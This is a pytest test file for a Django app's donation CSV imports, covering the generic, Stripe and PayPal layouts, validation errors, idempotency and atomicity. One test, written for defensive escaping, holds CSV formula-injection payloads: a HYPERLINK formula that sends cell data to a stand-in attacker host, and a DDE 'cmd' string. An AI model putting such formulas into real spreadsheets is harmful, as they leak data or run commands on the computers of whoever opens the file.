"""CSV imports: the three layouts, every bad input of the issue, idempotency and atomicity."""

import datetime as dt

import pytest
from django.contrib.auth.models import User
from django.utils import timezone
from django.utils.functional import Promise

from tests.funds.conftest import DAY, SECRET, add_rate, generic, make_campaign, paypal, stripe
from unheard.core.output.csv import escape_cell
from unheard.funds import imports, services
from unheard.funds.models import Donation, DonationImport, Donor, ExchangeRate, Subscription
from unheard.funds.services import ImportRefused

pytestmark = pytest.mark.django_db


@pytest.fixture
def treasurer(db):
    return User.objects.create_user("treasurer", is_staff=True)


def preview(data, user, layout="auto", **options):
    return services.donations_import_preview(
        data=data, file_name="bank.csv", layout=layout, options=options, acting_user=user
    )


def row(n, **values):
    base = {
        "transaction_id": f"T-{n}",
        "date": DAY.isoformat(),
        "amount": "10.00",
        "currency": "EUR",
        "channel": "bank_transfer",
    }
    return base | values


def problems(batch) -> dict[int, list[str]]:
    return {
        p["row"]: [imports.Problem.from_json(q).code for q in p["problems"]] for p in batch.problems
    }


# The generic format ---------------------------------------------------------------------------


def test_generic_file_previews_then_imports(rates, treasurer, campaign):
    data = generic(
        [
            row(1, campaign="legal-aid", donor_name="A. Donor", donor_email="a@example.org"),
            row(2, amount="1 500,00", currency="RUB"),
            row(3, amount="21.00", currency="usd", campaign="legal-aid"),
        ]
    )
    batch = preview(data, treasurer)
    assert batch.layout == "generic"
    assert batch.summary["new"] == 3 and batch.summary["error"] == 0
    assert not Donation.objects.exists(), "a preview saves nothing"
    counts = services.donations_import_apply(batch=batch, acting_user=treasurer)
    assert counts["imported"] == 3
    entries = {d.transaction_id: d for d in Donation.objects.all()}
    assert entries["T-1"].donor.email == "a@example.org"
    assert entries["T-2"].amount_minor == 150000 and entries["T-2"].reporting_minor == 1500
    assert entries["T-3"].currency == "USD" and entries["T-3"].campaign_minor == 2000
    batch.refresh_from_db()
    assert batch.status == DonationImport.Status.APPLIED and batch.content == ""


def test_importing_the_same_file_twice_adds_nothing(rates, treasurer):
    data = generic([row(1), row(2)])
    services.donations_import_apply(batch=preview(data, treasurer), acting_user=treasurer)
    again = preview(data, treasurer)
    assert again.summary["exists"] == 2 and again.summary["new"] == 0
    counts = services.donations_import_apply(batch=again, acting_user=treasurer)
    assert counts["imported"] == 0
    assert Donation.objects.count() == 2
    # A longer export that overlaps the first adds only the new rows.
    longer = preview(generic([row(1), row(2), row(3)]), treasurer)
    assert longer.summary["new"] == 1
    services.donations_import_apply(batch=longer, acting_user=treasurer)
    assert Donation.objects.count() == 3


def test_a_file_with_errors_imports_nothing_unless_asked_for_the_valid_rows(rates, treasurer):
    data = generic([row(1), row(2, amount="1,234.5.6"), row(3)])
    batch = preview(data, treasurer)
    assert batch.summary["error"] == 1 and batch.summary["new"] == 2
    with pytest.raises(ImportRefused):
        services.donations_import_apply(batch=batch, acting_user=treasurer)
    assert not Donation.objects.exists()
    counts = services.donations_import_apply(batch=batch, acting_user=treasurer, valid_only=True)
    assert counts["imported"] == 2
    assert sorted(Donation.objects.values_list("transaction_id", flat=True)) == ["T-1", "T-3"]
    with pytest.raises(ImportRefused):
        services.donations_import_apply(batch=batch, acting_user=treasurer)


def test_an_import_is_all_or_nothing(rates, treasurer, monkeypatch):
    batch = preview(generic([row(1), row(2)]), treasurer)
    original = Donation.objects.bulk_create

    def fail_half_way(objects, **kwargs):
        original(objects[:1], **kwargs)
        raise RuntimeError("disk full")

    monkeypatch.setattr(Donation.objects, "bulk_create", fail_half_way)
    with pytest.raises(RuntimeError):
        services.donations_import_apply(batch=batch, acting_user=treasurer)
    monkeypatch.undo()
    assert not Donation.objects.exists()
    batch.refresh_from_db()
    assert batch.status == DonationImport.Status.PREVIEWED


def test_rates_are_checked_again_when_applying(rates, treasurer):
    batch = preview(generic([row(1, currency="RUB", amount="500")]), treasurer)
    assert batch.summary["new"] == 1
    ExchangeRate.objects.filter(quote="RUB").delete()
    with pytest.raises(ImportRefused):
        services.donations_import_apply(batch=batch, acting_user=treasurer)
    assert not Donation.objects.exists()


@pytest.mark.parametrize(
    ("values", "code"),
    [
        ({"amount": "1,234.5.6"}, "amount_malformed"),
        ({"amount": "1,234"}, "amount_ambiguous"),
        ({"amount": "10.123"}, "amount_ambiguous"),
        ({"amount": "10.1234"}, "amount_too_precise"),
        ({"amount": ""}, "amount_empty"),
        ({"amount": "0.00"}, "amount_zero"),
        ({"currency": "XYZ"}, "currency"),
        ({"currency": "RUR"}, "currency_not_in_use"),
        ({"currency": "BGN", "date": "2026-02-16"}, "currency_not_in_use"),
        ({"date": "31.02.2025"}, "date_malformed"),
        ({"date": "2025/03/03"}, "date_malformed"),
        ({"date": ""}, "date_empty"),
        ({"transaction_id": ""}, "transaction_empty"),
        ({"campaign": "no-such-campaign"}, "campaign_unknown"),
        ({"channel": "carrier pigeon"}, "channel_unknown"),
        ({"donor_email": "not-an-address"}, "email_malformed"),
        ({"currency": "GBP", "date": "2025-01-10"}, "rate_missing"),
        ({"refund_of": "T-404", "amount": "-5.00"}, "refund_unknown"),
    ],
)
def test_each_bad_row_is_reported_with_its_reason(rates, treasurer, values, code):
    batch = preview(generic([row(1), row(2, **values)]), treasurer)
    assert problems(batch)[3] == [code]
    assert batch.summary["error"] == 1


def test_a_date_in_the_future_is_refused(rates, treasurer):
    tomorrow = timezone.localdate() + dt.timedelta(days=1)
    add_rate(tomorrow, "USD", "1.05")
    batch = preview(generic([row(1, date=tomorrow.isoformat())]), treasurer)
    assert problems(batch)[2] == ["date_future"]


def test_a_duplicate_transaction_id_in_the_file_is_an_error_on_the_second_row(rates, treasurer):
    batch = preview(generic([row(1), row(2), row(1, amount="99.00")]), treasurer)
    reported = {p["row"]: p for p in batch.problems}
    assert [q["code"] for q in reported[4]["problems"]] == ["transaction_duplicate"]
    assert reported[4]["problems"][0]["params"] == {"id": "T-1", "row": 2}


def test_missing_columns_reject_the_whole_file(rates, treasurer):
    data = b"transaction_id,date,amount\nT-1,2025-03-03,10.00\n"
    batch = preview(data, treasurer, layout="generic")
    assert [p["code"] for p in batch.summary["file_problems"]] == ["missing_columns"]
    assert batch.summary["file_problems"][0]["params"]["columns"] == "currency"
    unknown = preview(b"foo,bar\n1,2\n", treasurer)
    assert [p["code"] for p in unknown.summary["file_problems"]] == ["unknown_layout"]
    with pytest.raises(ImportRefused):
        services.donations_import_apply(batch=batch, acting_user=treasurer)
    empty = preview(b"", treasurer)
    assert [p["code"] for p in empty.summary["file_problems"]] == ["empty_file"]


def test_a_windows_1251_file_is_detected_and_read(rates, treasurer):
    data = generic(
        [row(1, donor_name="Иван Петров", note="Пожертвование на адвоката")],
        delimiter=";",
        encoding="cp1251",
    )
    batch = preview(data, treasurer)
    assert batch.encoding == "windows-1251"
    assert batch.summary["new"] == 1
    services.donations_import_apply(batch=batch, acting_user=treasurer)
    donation = Donation.objects.get()
    assert donation.donor.name == "Иван Петров"
    assert donation.note == "Пожертвование на адвоката"


def test_problems_are_stored_as_codes_and_worded_when_shown():
    assert all(isinstance(text, Promise) for text in imports.MESSAGES.values())
    problem = imports.Problem("currency", {"text": "XYZ"}, "currency")
    assert str(problem) == "“XYZ” is not a known ISO 4217 currency code."
    assert imports.Problem.from_json(problem.as_json()) == problem


def test_a_formula_in_a_cell_is_kept_as_text_and_escaped_on_export(rates, treasurer):
    formula = '=HYPERLINK("http://evil.example/"&A1,"x")'
    batch = preview(generic([row(1, donor_name=formula, note="+cmd|' /C calc'!A0")]), treasurer)
    services.donations_import_apply(batch=batch, acting_user=treasurer)
    assert Donor.objects.get().name == formula
    assert escape_cell(formula) == "'" + formula
    assert escape_cell("@SUM(A1)") == "'@SUM(A1)"
    assert escape_cell("-10.00") == "-10.00"
    assert escape_cell("-1+2") == "'-1+2"
    assert escape_cell("\tx") == "'\tx"


def test_refunds_in_the_generic_format(rates, treasurer):
    data = generic(
        [
            row(1, amount="-4.00", refund_of="T-2", transaction_id="R-1"),
            row(2, amount="10.00"),
            row(3, amount="-20.00", refund_of="T-2", transaction_id="R-2"),
        ]
    )
    batch = preview(data, treasurer)
    assert problems(batch) == {4: ["refund_too_large"]}
    services.donations_import_apply(batch=batch, acting_user=treasurer, valid_only=True)
    refund = Donation.objects.get(transaction_id="R-1")
    assert refund.kind == "refund" and refund.corrects.transaction_id == "T-2"
    assert refund.reporting_minor == -400


def test_a_default_campaign_is_given_to_rows_that_name_none(rates, treasurer, campaign):
    other = make_campaign(slug="parcels", currency="RUB")
    batch = preview(generic([row(1), row(2, campaign="parcels")]), treasurer, campaign="legal-aid")
    services.donations_import_apply(batch=batch, acting_user=treasurer)
    assert Donation.objects.get(transaction_id="T-1").campaign == campaign
    assert Donation.objects.get(transaction_id="T-2").campaign == other


# Stripe ---------------------------------------------------------------------------------------


def test_stripe_payments_export(rates, treasurer, campaign):
    data = stripe(
        [
            {
                "id": "ch_1",
                "Created (UTC)": "2025-03-03 10:15:00",
                "Amount": "25.00",
                "Customer Email": "donor@example.org",
                "campaign (metadata)": "legal-aid",
            },
            {
                "id": "ch_2",
                "Created (UTC)": "2025-03-03 22:30:00",
                "Amount": "1,050.00",
                "Currency": "usd",
                "Status": "Refunded",
                "Amount Refunded": "1,050.00",
            },
            {
                "id": "ch_3",
                "Created (UTC)": "2025-03-04 09:00",
                "Amount": "5.00",
                "Status": "Failed",
            },
            {
                "id": "ch_4",
                "Created (UTC)": "2025-03-04 09:00",
                "Amount": "7.00",
                "Captured": "false",
            },
        ]
    )
    batch = preview(data, treasurer)
    assert batch.layout == "stripe"
    assert batch.summary == batch.summary | {"new": 3, "skipped": 2, "error": 0}
    services.donations_import_apply(batch=batch, acting_user=treasurer)
    first = Donation.objects.get(transaction_id="ch_1")
    assert (first.amount_minor, first.currency, first.channel) == (2500, "EUR", "card_processor")
    assert first.fee_minor == 50 and first.campaign == campaign and first.processor == "stripe"
    second = Donation.objects.get(transaction_id="ch_2")
    # 22:30 UTC is already the next day in Moscow (the instance's time zone).
    assert second.received_on == dt.date(2025, 3, 4)
    refund = Donation.objects.get(transaction_id="ch_2:refund")
    assert refund.amount_minor == -105000 and refund.corrects == second
    assert second.reporting_minor + refund.reporting_minor == 0


# PayPal ---------------------------------------------------------------------------------------


def test_paypal_activity_download(rates, treasurer, campaign):
    data = paypal(
        [
            {
                "Date": "05/03/2025",
                "Name": "A Supporter",
                "Type": "Payment Refund",
                "Gross": "-5.00",
                "Fee": "0.20",
                "Transaction ID": "8R1",
                "Reference Txn ID": "7P1",
                "Balance Impact": "Debit",
            },
            {
                "Date": "13/03/2025",
                "Type": "General Withdrawal",
                "Gross": "-500.00",
                "Transaction ID": "9W1",
                "Balance Impact": "Debit",
            },
            {
                "Date": "04/03/2025",
                "Name": "B Monthly",
                "Type": "Subscription Payment",
                "Gross": "10.00",
                "From Email Address": "b@example.org",
                "Transaction ID": "7S1",
                "Reference Txn ID": "I-KC9VBGY2GWDB",
            },
            {
                "Date": "03/03/2025",
                "Name": "A Supporter",
                "Gross": "1,000.00",
                "From Email Address": "a@example.org",
                "Transaction ID": "7P1",
                "Item ID": "legal-aid",
            },
            {"Date": "03/03/2025", "Gross": "3.00", "Transaction ID": "7Q1", "Status": "Pending"},
        ]
    )
    batch = preview(data, treasurer)
    assert batch.layout == "paypal"
    assert (batch.summary["new"], batch.summary["skipped"], batch.summary["error"]) == (3, 2, 0)
    services.donations_import_apply(batch=batch, acting_user=treasurer)
    payment = Donation.objects.get(transaction_id="7P1")
    assert payment.amount_minor == 100000 and payment.received_on == DAY
    assert payment.campaign == campaign and payment.fee_minor == 59
    refund = Donation.objects.get(transaction_id="8R1")
    assert refund.corrects == payment and refund.amount_minor == -500
    assert refund.received_on == dt.date(2025, 3, 5)
    subscription = Subscription.objects.get(reference="I-KC9VBGY2GWDB")
    assert subscription.status == "active" and subscription.donor.email == "b@example.org"
    assert Donation.objects.get(transaction_id="7S1").subscription == subscription


def test_paypal_dates_that_read_both_ways_need_the_date_order(rates, treasurer):
    rows = [
        {"Date": "03/04/2025", "Gross": "3.00", "Transaction ID": "A1"},
        {"Date": "04/03/2025", "Gross": "3.00", "Transaction ID": "A2"},
    ]
    batch = preview(paypal(rows), treasurer)
    assert [p["code"] for p in batch.summary["file_problems"]] == ["date_ambiguous"]
    chosen = preview(paypal(rows), treasurer, date_order="mdy")
    assert chosen.summary["new"] == 2
    services.donations_import_apply(batch=chosen, acting_user=treasurer)
    assert Donation.objects.get(transaction_id="A2").received_on == dt.date(2025, 4, 3)


def test_secret_marker_stays_in_the_back_office(rates, treasurer):
    batch = preview(generic([row(1, donor_name=SECRET)]), treasurer)
    services.donations_import_apply(batch=batch, acting_user=treasurer)
    assert Donor.objects.filter(name=SECRET).exists()
